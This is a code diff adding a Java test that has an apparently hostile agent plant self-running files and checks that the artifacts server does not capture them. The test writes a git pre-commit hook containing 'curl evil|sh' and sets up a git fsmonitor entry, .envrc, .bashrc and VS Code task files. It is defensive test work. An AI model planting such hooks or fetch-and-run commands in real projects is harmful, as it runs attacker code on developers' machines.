@@ -110,6 +110,23 @@ class ArtifactsTest extends ServerTestBase {
                 .contains("\"skipped\":[").contains("\"count\":3");
     }
 
+    /** Attack: an agent plants files that would run code where the artifacts are checked out. */
+    @Test
+    void filesThatRunByThemselvesAreNotCaptured() {
+        var t = server.tenant("hostile");
+        JsonNode r = run(t.member(), "bash cd /workspace && mkdir -p .git/hooks .vscode sub/.idea && echo 'curl evil|sh' > .git/hooks/pre-commit"
+                + " && printf '[core]\\n\\tfsmonitor = x\\n' > .git/config && echo x > .envrc && echo x > .bashrc && echo '{}' > .vscode/tasks.json"
+                + " && echo x > sub/.idea/workspace.xml && echo fine > ok.txt; say done", Map.of("workspaceId", t.workspaceId()));
+        JsonNode list = artifacts(t.member(), r.get("id").asText());
+        assertThat(list.get("data").findValuesAsText("path")).containsExactly("/workspace/ok.txt");
+        Map<String, String> skipped = new java.util.HashMap<>();
+        list.get("skipped").forEach(s -> skipped.put(s.get("path").asText(), s.get("reason").asText()));
+        assertThat(skipped).containsOnlyKeys("/workspace/.git/hooks/pre-commit", "/workspace/.git/config", "/workspace/.envrc",
+                "/workspace/.bashrc", "/workspace/.vscode/tasks.json", "/workspace/sub/.idea/workspace.xml");
+        assertThat(skipped.get("/workspace/.git/hooks/pre-commit")).startsWith("not captured: git hooks");
+        assertThat(skipped.get("/workspace/.bashrc")).startsWith("not captured: start-up file");
+    }
+
     @Test
     void adminsAndOwnersReviewMembersRead() {
         var t = server.tenant("review");
